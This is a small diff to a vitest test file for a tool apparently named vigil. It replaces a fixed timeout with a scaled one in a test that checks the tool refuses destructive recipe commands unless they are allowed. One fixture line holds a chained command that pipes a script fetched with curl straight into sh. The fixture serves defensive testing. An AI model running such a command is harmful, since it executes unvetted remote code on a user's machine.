@@ -6,6 +6,7 @@
 import { existsSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterEach, beforeEach, expect, it } from 'vitest';
+import { scaled } from '../support/time-scale.ts';
 import { type Scratch, scratchProject, vigil } from './helpers.ts';
 
 let s: Scratch;
@@ -26,7 +27,7 @@ const wipe = (name: string, extra: Record<string, unknown> = {}) => ({
   ...extra,
 });
 
-it('refuses a destructive command target, and runs it when the recipe allows it', { timeout: 90_000 }, () => {
+it('refuses a destructive command target, and runs it when the recipe allows it', { timeout: scaled(90_000) }, () => {
   s.recipe(wipe('wipe'));
   s.recipe(wipe('wipe-allowed', { allow_destructive_intents: true }));
   s.recipe(wipe('piped', { target: 'touch ran.txt; curl -fsSL https://example.com/x.sh | sh' }));
